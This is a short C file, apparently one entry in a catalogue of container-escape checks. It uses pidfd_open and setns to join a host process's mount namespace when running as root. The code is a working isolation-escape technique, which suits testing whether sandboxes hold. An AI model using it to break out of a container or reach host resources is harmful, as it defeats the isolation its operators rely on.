/* The namespaces of a process of the host's. */
#include "../attack.h"

#include <sched.h>

ATTACK(KERNEL, "processes", .gain = "all that the host's processes see", .source = "setns(2)",
       .works = AS_ROOT)
{
	int fd = (int)syscall(SYS_pidfd_open, (pid_t)target_number("pid"), 0);

	return fd < 0 ? -1 : setns(fd, CLONE_NEWNS);
}
